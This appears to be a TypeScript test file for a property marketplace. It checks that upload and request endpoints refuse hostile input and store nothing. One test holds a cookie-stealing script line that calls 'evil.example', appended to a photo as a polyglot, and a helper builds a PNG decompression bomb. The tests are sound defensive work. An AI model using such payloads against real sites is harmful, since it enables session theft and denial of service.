import { existsSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { crc32, deflateSync } from 'node:zlib';
import { createOrganization } from '../testing/organizations';
import { photo, signUpOwner } from '../testing/listings';
import { startTestMarketplace, type TestMarketplace } from '../testing/test-marketplace';

/**
 * Hostile bodies and files (issue 12): each is refused with a 4xx and a message naming the field, and
 * nothing is stored — no event, no file.
 */
let fie: TestMarketplace;
let owner: string;
let organization: string;

beforeAll(async () => {
  fie = await startTestMarketplace();
  owner = (await signUpOwner(fie, { email: 'kwame.uploads@example.com' })).token;
  organization = (await createOrganization(fie, { name: 'Upload Homes', email: 'uploads@example.com', url_name: 'upload_homes' })).token;
}, 60_000);
afterAll(async () => fie.stop());

const filesUnder = (dir: string): string[] => (existsSync(dir) ? readdirSync(dir, { recursive: true, withFileTypes: true }).filter((e) => e.isFile()).map((e) => join(e.parentPath, e.name)) : []);

/** Runs `send`, and checks the log's head and the stored files are as they were. */
async function changesNothing<T>(send: () => Promise<T>): Promise<T> {
  const head = await fie.stores.events.headPosition();
  const files = filesUnder(fie.dataDir).length;
  const answer = await send();
  expect(await fie.stores.events.headPosition()).toBe(head);
  expect(filesUnder(fie.dataDir).length).toBe(files);
  return answer;
}

async function upload(path: string, files: { bytes: Buffer; name: string; field?: string }[], token: string, extraFields = 0) {
  const form = new FormData();
  for (const f of files) form.append(f.field ?? 'files', new Blob([new Uint8Array(f.bytes)]), f.name);
  for (let i = 0; i < extraFields; i++) form.append(`note${i}`, 'x');
  const res = await fetch(`${fie.url}${path}`, { method: 'POST', body: form, headers: { authorization: `Bearer ${token}` } });
  return { status: res.status, body: (await res.json()) as { message: string; code: string; errors?: Record<string, string> } };
}
const photos = (files: { bytes: Buffer; name: string }[]) => upload('/api/properties/image-upload', files, owner);
const documents = (files: { bytes: Buffer; name: string }[]) => upload('/api/auth/personal-documents/upload', files, owner);

/** A PNG whose header claims a width × height canvas and that holds no pixels: a few dozen bytes. */
function claimedCanvas(width: number, height: number) {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(body) >>> 0);
    return Buffer.concat([length, body, crc]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 8; // 8 bits, greyscale
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', header), chunk('IDAT', deflateSync(Buffer.alloc(0))), chunk('IEND', Buffer.alloc(0))]);
}
const pdf = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n');

test('a JSON body over 256 KB is refused with 413 and a message saying how much is allowed', async () => {
  const res = await changesNothing(() => fie.request('POST', '/api/contact', { name: 'Kojo', email: 'kojo@example.com', subject: 'Hi', message: 'x'.repeat(300 * 1024) }));
  expect(res.status).toBe(413);
  expect(res.body).toEqual({ message: 'The request is too large: send at most 256 KB', code: 'PayloadTooLarge' });
});

test('a 50 MB photo is refused with 413 as soon as it passes the 15 MB limit', async () => {
  const res = await changesNothing(() => photos([{ bytes: Buffer.alloc(50 * 1024 * 1024, 0xff), name: 'huge.jpg' }]));
  expect(res.status).toBe(413);
  expect(res.body).toMatchObject({ code: 'PayloadTooLarge', errors: { images: 'Photos must be 15 MB or smaller' } });
});

test('more photos than allowed in one upload are refused with 413', async () => {
  const small = await photo('#2e8b57', 40, 30);
  const res = await changesNothing(() => photos(Array.from({ length: 21 }, (_, i) => ({ bytes: small, name: `p${i}.jpg` }))));
  expect(res.status).toBe(413);
  expect(res.body.errors).toEqual({ images: 'Upload at most 20 photos at a time' });
});

test('an upload stuffed with form fields is refused with 413', async () => {
  const res = await changesNothing(() => upload('/api/properties/image-upload', [], owner, 200));
  expect(res.status).toBe(413);
  expect(res.body.errors).toEqual({ images: 'The upload carries too many form fields' });
});

test('a multipart body cut off mid-file is a 400, not a crash', async () => {
  const boundary = 'fieboundary';
  const body = `--${boundary}\r\nContent-Disposition: form-data; name="files"; filename="a.jpg"\r\nContent-Type: image/jpeg\r\n\r\n\xff\xd8\xff`;
  const res = await changesNothing(() => fetch(`${fie.url}/api/properties/image-upload`, { method: 'POST', body, headers: { authorization: `Bearer ${owner}`, 'content-type': `multipart/form-data; boundary=${boundary}` } }));
  expect(res.status).toBe(400);
  expect(await res.json()).toMatchObject({ code: 'MalformedUpload', message: 'The upload was cut off or is not a valid form upload; please try again' });
});

test('an empty file is refused as a photo and as a document', async () => {
  const asPhoto = await changesNothing(() => photos([{ bytes: Buffer.alloc(0), name: 'empty.jpg' }]));
  expect(asPhoto.status).toBe(400);
  expect(asPhoto.body.errors).toEqual({ images: 'This file is empty (empty.jpg)' });
  const asDocument = await changesNothing(() => documents([{ bytes: Buffer.alloc(0), name: 'empty.pdf' }]));
  expect(asDocument.status).toBe(400);
  expect(asDocument.body.errors).toEqual({ files: 'This file is empty (empty.pdf)' });
});

test('a decompression bomb (65 bytes claiming 144 megapixels) is refused from its header, as a photo and as a logo', async () => {
  const bomb = claimedCanvas(12_000, 12_000);
  const message = 'This picture is too large to open (over 100 megapixels); save it smaller and try again (bomb.png)';
  const asPhoto = await changesNothing(() => photos([{ bytes: bomb, name: 'bomb.png' }]));
  expect(asPhoto.status).toBe(400);
  expect(asPhoto.body.errors).toEqual({ images: message });
  const asLogo = await changesNothing(() => upload('/api/organizations/logo', [{ bytes: bomb, name: 'bomb.png', field: 'logo' }], organization));
  expect(asLogo.status).toBe(400);
  expect(asLogo.body.errors).toEqual({ logo: message });
});

test('a polyglot (a real photo with a script after it) is refused as a photo and as a document', async () => {
  const polyglot = Buffer.concat([await photo('#4682b4', 80, 60), Buffer.from('<script>fetch("//evil.example/"+document.cookie)</script>')]);
  const message = 'This file hides web page or script code, so it cannot be used (house.jpg)';
  const asPhoto = await changesNothing(() => photos([{ bytes: polyglot, name: 'house.jpg' }]));
  expect(asPhoto.status).toBe(400);
  expect(asPhoto.body.errors).toEqual({ images: message });
  const asDocument = await changesNothing(() => documents([{ bytes: polyglot, name: 'house.jpg' }]));
  expect(asDocument.status).toBe(400);
  expect(asDocument.body.errors).toEqual({ files: message });
});

test('a PDF claiming to be a photo is refused as a photo and as a document', async () => {
  const asPhoto = await changesNothing(() => photos([{ bytes: pdf, name: 'house.jpg' }]));
  expect(asPhoto.status).toBe(400);
  expect(asPhoto.body.errors).toEqual({ images: 'This file is not a photo we can use (JPEG, PNG, WebP, HEIC or AVIF) (house.jpg)' });
  const asDocument = await changesNothing(() => documents([{ bytes: pdf, name: 'ghana-card.jpg' }]));
  expect(asDocument.status).toBe(400);
  expect(asDocument.body.errors).toEqual({ files: 'This file is named as a picture but is not one (ghana-card.jpg)' });
});

test('one bad file in a batch stores none of the good ones', async () => {
  const good = await photo('#daa520', 80, 60);
  const res = await changesNothing(() => photos([{ bytes: good, name: 'good.jpg' }, { bytes: pdf, name: 'bad.jpg' }]));
  expect(res.status).toBe(400);
});

test('ordinary files still go through: a photo, a PNG saved as .jpg among documents, and a PDF', async () => {
  expect((await photos([{ bytes: await photo('#a0522d', 80, 60), name: 'room.jpg' }])).status).toBe(201);
  const png = await (await import('sharp')).default({ create: { width: 40, height: 30, channels: 3, background: '#fff' } }).png().toBuffer();
  expect((await documents([{ bytes: png, name: 'scan.jpg' }, { bytes: pdf, name: 'deed.pdf' }])).status).toBe(201);
});
